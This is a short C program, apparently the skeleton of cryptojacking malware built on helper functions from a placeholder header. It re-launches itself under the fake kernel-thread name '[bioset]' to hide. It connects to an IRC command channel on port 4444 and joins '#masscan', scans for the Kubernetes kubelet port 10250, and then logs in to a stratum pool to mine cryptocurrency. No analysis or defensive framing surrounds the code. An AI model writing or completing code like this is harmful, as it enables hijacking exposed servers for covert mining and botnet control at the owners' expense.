#include "stand-in.h"

int main(int argc, char **argv)
{
	if (argc > 1 || strcmp(argv[0], "[bioset]") != 0)
		execl("/proc/self/exe", "[bioset]", (char *)NULL);
	int channel = dial("sink", 4444), pool;

	say_text(channel, "NICK ziggy\r\nUSER ziggy 0 * :ziggy\r\nJOIN #masscan\r\n");
	scan(10250, 60);
	pool = dial("stratum", 3333);
	stratum_login(pool);
	mine(pool, 0, 100, 15, KEEP_ALIVE);
}
